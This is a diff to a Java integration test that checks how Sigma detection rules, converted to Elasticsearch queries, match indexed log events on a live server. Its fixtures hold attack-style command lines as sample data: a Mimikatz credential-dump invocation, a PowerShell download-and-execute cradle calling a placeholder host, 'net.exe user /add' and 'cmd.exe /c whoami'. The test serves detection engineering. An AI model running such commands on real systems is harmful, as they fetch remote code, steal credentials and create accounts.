@@ -28,6 +28,7 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
+import java.util.Base64;
 import java.util.List;
 import java.util.Objects;
 import java.util.Set;
@@ -37,7 +38,13 @@ import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 
-/** What our queries find on a real server is what Sigma says, on keyword fields and sub-fields. */
+/**
+ * What our queries find on a real server is what Sigma says, on keyword fields and sub-fields. The
+ * server is one of 6.8 that the tests start, or, of any age, the one that {@code
+ * -Dqueries.server=URL} or the environment variable {@code DEPLOY_WATCHES_QUERIES_SERVER} names;
+ * the URL may hold {@code user:password@}. The tests make indices {@code deploy-watches-test-*} on
+ * it, and delete them.
+ */
 class QueriesIT {
   private static final ObjectMapper JSON = new ObjectMapper();
   private static final HttpClient HTTP = HttpClient.newHttpClient();
@@ -48,38 +55,68 @@ class QueriesIT {
        "source": {"properties": {"ip": {"type": "ip"}, "port": {"type": "integer"}}}}
       """;
 
-  private static final String KEYWORDS =
-      """
-      {"settings": {"number_of_shards": 1, "number_of_replicas": 0},
-       "mappings": {"_doc": {"date_detection": false, "properties": %s,
-         "dynamic_templates": [{"strings": {"match_mapping_type": "string",
-         "mapping": {"type": "keyword"}}}]}}}
-      """
-          .formatted(TYPED);
+  private static final String KEYWORDS = "{\"type\": \"keyword\"}";
+
+  /** As servers map strings by themselves. */
+  private static final String SUB_FIELDS =
+      "{\"type\": \"text\", \"fields\": {\"keyword\": {\"type\": \"keyword\","
+          + " \"ignore_above\": 256}}}";
 
   /** As servers map strings by themselves, but for the 256 characters that they stop at. */
-  private static final String SUB_FIELDS =
-      """
-      {"settings": {"number_of_shards": 1, "number_of_replicas": 0},
-       "mappings": {"_doc": {"date_detection": false, "properties": %s,
-         "dynamic_templates": [{"strings": {"match_mapping_type": "string",
-         "mapping": {"type": "text", "fields": {"keyword": {"type": "keyword"}}}}}]}}}
-      """
-          .formatted(TYPED);
+  private static final String LONG_SUB_FIELDS =
+      "{\"type\": \"text\", \"fields\": {\"keyword\": {\"type\": \"keyword\"}}}";
+
+  private static final String TEXTS = "{\"type\": \"text\"}";
 
   /** All public rules take minutes: a tenth of them is asked, all with the property set. */
   private static final int EVERY = Boolean.getBoolean("soak") ? 1 : 10;
 
   private static String url = "";
+  private static String credentials = "";
+
+  /** For {@code matching.server}. */
+  private static String version = "";
 
   @BeforeAll
   static void start() throws Exception {
-    url = run("start", "--port", "0").strip();
+    String given = given();
+    URI server = URI.create(given.isEmpty() ? run("start", "--port", "0").strip() : given);
+    credentials = Objects.requireNonNullElse(server.getUserInfo(), "");
+    url = server.toString().replace(credentials + "@", "").replaceAll("/$", "");
+    String number = send("GET", "/", "").at("/version/number").asText();
+    assertThat(number).as("the version of " + url).matches("\\d+\\.\\d+\\..*");
+    version = number.substring(0, number.indexOf('.', number.indexOf('.') + 1));
   }
 
   @AfterAll
   static void stop() throws Exception {
-    run("stop");
+    for (String index : List.of("keywords", "sub-fields", "texts")) {
+      var unused = send("DELETE", path(index) + "?ignore_unavailable=true", "");
+    }
+    if (given().isEmpty()) {
+      run("stop");
+    }
+  }
+
+  private static String given() {
+    String property = System.getProperty("queries.server", "");
+    return property.isEmpty()
+        ? Objects.requireNonNullElse(System.getenv("DEPLOY_WATCHES_QUERIES_SERVER"), "")
+        : property;
+  }
+
+  private static String path(String index) {
+    return "/deploy-watches-test-" + index;
+  }
+
+  /** Whether the server does not know {@code case_insensitive}: it came with 7.10. */
+  private static boolean isBeforeIgnoringCase() {
+    return isTyped() || version.matches("7\\.\\d");
+  }
+
+  /** Whether mappings still have types. */
+  private static boolean isTyped() {
+    return version.startsWith("6.");
   }
 
   private static String run(String... arguments) throws Exception {
@@ -263,7 +300,7 @@ class QueriesIT {
       detections.add(
           Rules.detection("s: " + selection, "t: {F: '*'}", "condition: t and not s or s and t"));
     }
-    compare(detections, documents, "none");
+    compare(detections, documents, "none", LONG_SUB_FIELDS);
   }
 
   @Test
@@ -294,7 +331,7 @@ class QueriesIT {
       detections.add(Rules.detection("s: " + selection, "condition: s"));
       detections.add(Rules.detection("s: " + selection, "condition: not s"));
     }
-    compare(detections, documents, "ecs");
+    compare(detections, documents, "ecs", LONG_SUB_FIELDS);
   }
 
   @Test
@@ -319,13 +356,131 @@ class QueriesIT {
     // A server builds the automata of keywords for each field: events have hundreds of fields.
     detections.removeIf(detection -> detection.expression().toString().contains("KeywordMatch"));
     assertThat(detections).hasSizeGreaterThan(100);
-    compare(detections, documents, "winlogbeat");
+    compare(detections, documents, "winlogbeat", LONG_SUB_FIELDS);
   }
 
-  private static void compare(List<Detection> detections, List<JsonNode> documents, String fields)
+  /** What is negated may only be left out where it is sure to be there. */
+  @Test
+  void longTextsAreFoundByTheirWords() throws Exception {
+    String tail = " tail" + " word".repeat(100);
+    List<JsonNode> documents = new ArrayList<>();
+    for (String value : List.of("net.exe user /add", "cmd.exe /c whoami", "")) {
+      documents.add(JSON.createObjectNode().put("F", value + tail));
+      documents.add(JSON.createObjectNode().put("F", value));
+    }
+    documents.add(JSON.createObjectNode().put("N", 5).put("B", true).put("D", "2026-11-25"));
+    index("sub-fields", SUB_FIELDS, documents);
+    check("{F|contains: whoami}", Set.of(2, 3), Set.of(0, 1, 4, 5, 6));
+    check("{F|contains|all: [net, user]}", Set.of(0, 1), Set.of(2, 3, 4, 5, 6));
+    check("{F|contains: tai}", Set.of(0, 2, 4), Set.of(1, 3, 5, 6));
+    check("{F|contains: [WhoAmI, 'exe user']}", Set.of(0, 1, 2, 3), Set.of(0, 4, 5, 6));
+    check("{F|startswith: 'cmd.exe '}", Set.of(2, 3), Set.of(0, 1, 2, 4, 5, 6));
+    check("{F|contains: 'word net'}", Set.of(0), Set.of(0, 1, 2, 3, 4, 5, 6));
+    for (String selection : List.of("{N|contains: 5}", "{B|contains: tru}", "{D|contains: '11'}")) {
+      check(selection, Set.of(), Set.of(0, 1, 2, 3, 4, 5, 6));
+    }
+  }
+
+  private static void check(String selection, Set<Integer> found, Set<Integer> notFound)
+      throws Exception {
+    List<JsonNode> queries = new ArrayList<>();
+    for (String condition : List.of("s", "not s")) {
+      queries.add(
+          convert(
+              new ElasticsearchDsl(),
+              Rules.detection("s: " + selection, "condition: " + condition),
+              new Matching("none", ".keyword", version)));
+    }
+    assertThat(search("sub-fields", queries)).as(selection).containsExactly(found, notFound);
+  }
+
+  @Test
+  void ofTextsNothingIsMissed() throws Exception {
+    List<JsonNode> documents = new ArrayList<>();
+    for (String text :
+        List.of(
+            "Invoke-Mimikatz -DumpCreds",
+            "invoke-mimikatz",
+            "IEX (New-Object Net.WebClient).DownloadString('http://a.b/c')",
+            "plain words, and_some_more",
+            "C:\\Windows\\System32\\cmd.exe /c whoami",
+            "Ärger im Büro",
+            "")) {
+      documents.add(JSON.createObjectNode().put("message", text));
+    }
+    documents.add(JSON.createObjectNode().put("F", "x"));
+    index("texts", TEXTS, documents);
+    List<JsonNode> queries = new ArrayList<>();
+    List<Set<Integer>> expected = new ArrayList<>();
+    FieldMapping mapping = Objects.requireNonNull(FieldMapping.named("winlogbeat"));
+    for (String selection :
+        List.of(
+            "{Message|contains: mimikatz}",
+            "{Message|contains: 'oke-Mimikatz -Dump'}",
+            "{Message|contains: [.webclient, cmd.exe]}",
+            "{Message|contains|all: [iex, DOWNLOAD]}",
+            "{Message: 'invoke-mimikatz'}",
+            "{Message|endswith: '\\cmd.exe /c whoami'}",
+            "{Message|contains: '(''http'}",
+            "{Message|contains: '_some'}",
+            "{Message|startswith: är}",
+            "{Message: 'plain*more'}",
+            "{Message: ''}",
+            "{Message: null}",
+            "{Message|contains: '::'}")) {
+      for (String condition : List.of("s", "not s")) {
+        Detection detection =
+            Rules.detections(
+                    """
+                    logsource: {product: windows}
+                    detection:
+                      s: %s
+                      condition: %s
+                    """
+                        .formatted(selection, condition))
+                .get(0);
+        Evaluator judge = new Evaluator(name -> mapping.map(name, detection.logSource()));
+        Set<Integer> ids = new TreeSet<>();
+        for (int i = 0; i < documents.size(); i++) {
+          if (judge.matches(detection.expression(), documents.get(i))) {
+            ids.add(i);
+          }
+        }
+        queries.add(
+            convert(
+                new ElasticsearchDsl(), detection, new Matching("winlogbeat", "none", version)));
+        expected.add(ids);
+      }
+    }
+    List<Set<Integer>> found = search("texts", queries);
+    for (int i = 0; i < queries.size(); i++) {
+      assertThat(found.get(i)).as(queries.get(i).toString()).containsAll(expected.get(i));
+    }
+    assertThat(found.get(0)).isEqualTo(expected.get(0));
+    assertThat(found.get(1)).isEqualTo(expected.get(1));
+    assertThat(found.get(2)).isEqualTo(expected.get(2));
+  }
+
+  /** The golden form for servers of this age. */
+  @Test
+  void goldenQueriesRun() throws Exception {
+    index("keywords", KEYWORDS, List.of(JSON.createObjectNode().put("F", "x")));
+    Path golden =
+        Path.of(
+            "src/test/resources/golden/queries",
+            isBeforeIgnoringCase() ? "render-6.8.json" : "render-7.10.json");
+    List<JsonNode> queries = new ArrayList<>();
+    JSON.readTree(Files.readString(golden))
+        .forEach(watch -> queries.add(watch.at("/input/search/request/body/query")));
+    assertThat(queries).hasSizeGreaterThan(5).allMatch(query -> !query.isMissingNode());
+    assertThat(search("keywords", queries)).hasSameSizeAs(queries);
+  }
+
+  private static void compare(
+      List<Detection> detections, List<JsonNode> documents, String fields, String subFieldStrings)
       throws Exception {
     index("keywords", KEYWORDS, documents);
-    index("sub-fields", SUB_FIELDS, documents);
+    index("sub-fields", subFieldStrings, documents);
     FieldMapping mapping = Objects.requireNonNull(FieldMapping.named(fields));
     List<String> wrong = new ArrayList<>();
     for (int start = 0; start < detections.size(); start += 50) {
@@ -335,7 +490,7 @@ class QueriesIT {
       List<JsonNode> subFields = new ArrayList<>();
       for (Detection detection : batch) {
         keywords.add(
-            convert(new ElasticsearchDsl(), detection, new Matching(fields, "none", "6.8")));
+            convert(new ElasticsearchDsl(), detection, new Matching(fields, "none", version)));
         // A script has no form in query_string.
         JsonNode dsl = keywords.get(keywords.size() - 1);
         texts.add(
@@ -345,9 +500,9 @@ class QueriesIT {
                     convert(
                         new ElasticsearchQueryString(),
                         detection,
-                        new Matching(fields, "none", "6.8"))));
+                        new Matching(fields, "none", version))));
         subFields.add(
-            convert(new ElasticsearchDsl(), detection, new Matching(fields, ".keyword", "6.8")));
+            convert(new ElasticsearchDsl(), detection, new Matching(fields, ".keyword", version)));
       }
       List<Set<Integer>> byKeywords = search("keywords", keywords);
       List<Set<Integer>> byTexts = search("keywords", texts);
@@ -395,16 +550,35 @@ class QueriesIT {
     return query;
   }
 
-  private static void index(String name, String settings, List<JsonNode> documents)
+  /** Makes an index. */
+  private static void index(String name, String strings, List<JsonNode> documents)
       throws Exception {
-    send("DELETE", "/" + name + "?ignore_unavailable=true", "");
-    assertThat(send("PUT", "/" + name, settings).path("acknowledged").asBoolean()).isTrue();
+    var unused = send("DELETE", path(name) + "?ignore_unavailable=true", "");
+    String mapping =
+        """
+        {"date_detection": false, "properties": %s, "dynamic_templates": [
+          {"strings": {"match_mapping_type": "string", "mapping": %s}}]}
+        """
+            .formatted(TYPED, strings);
+    JsonNode made =
+        send(
+            "PUT",
+            path(name),
+            """
+            {"settings": {"number_of_shards": 1, "number_of_replicas": 0}, "mappings": %s}
+            """
+                .formatted(isTyped() ? "{\"_doc\": " + mapping + "}" : mapping));
+    assertThat(made.path("acknowledged").asBoolean()).as(made.toString()).isTrue();
     StringBuilder bulk = new StringBuilder();
     for (int i = 0; i < documents.size(); i++) {
       bulk.append("{\"index\": {\"_id\": \"").append(i).append("\"}}\n");
       bulk.append(documents.get(i)).append('\n');
     }
-    JsonNode answer = send("POST", "/" + name + "/_doc/_bulk?refresh=true", bulk.toString());
+    JsonNode answer =
+        send(
+            "POST",
+            path(name) + (isTyped() ? "/_doc" : "") + "/_bulk?refresh=true",
+            bulk.toString());
     assertThat(answer.path("errors").asBoolean(true)).as(answer.toString()).isFalse();
   }
 
@@ -416,7 +590,7 @@ class QueriesIT {
       body.append("{}\n").append(search).append('\n');
     }
     JsonNode answer =
-        send("POST", "/" + index + "/_msearch?max_concurrent_searches=1", body.toString());
+        send("POST", path(index) + "/_msearch?max_concurrent_searches=1", body.toString());
     List<Set<Integer>> found = new ArrayList<>();
     for (int i = 0; i < queries.size(); i++) {
       JsonNode response = answer.path("responses").path(i);
@@ -433,16 +607,19 @@ class QueriesIT {
 
   private static JsonNode send(String method, String path, String body)
       throws IOException, InterruptedException {
-    HttpRequest request =
+    HttpRequest.Builder request =
         HttpRequest.newBuilder(URI.create(url + path))
             .header(
                 "Content-Type",
                 path.contains("_bulk") || path.contains("_msearch")
                     ? "application/x-ndjson"
                     : "application/json")
-            .method(method, BodyPublishers.ofString(body, StandardCharsets.UTF_8))
-            .build();
-    HttpResponse<String> response = HTTP.send(request, BodyHandlers.ofString());
+            .method(method, BodyPublishers.ofString(body, StandardCharsets.UTF_8));
+    if (!credentials.isEmpty()) {
+      byte[] bytes = credentials.getBytes(StandardCharsets.UTF_8);
+      request.header("Authorization", "Basic " + Base64.getEncoder().encodeToString(bytes));
+    }
+    HttpResponse<String> response = HTTP.send(request.build(), BodyHandlers.ofString());
     return JSON.readTree(response.body());
   }
 }
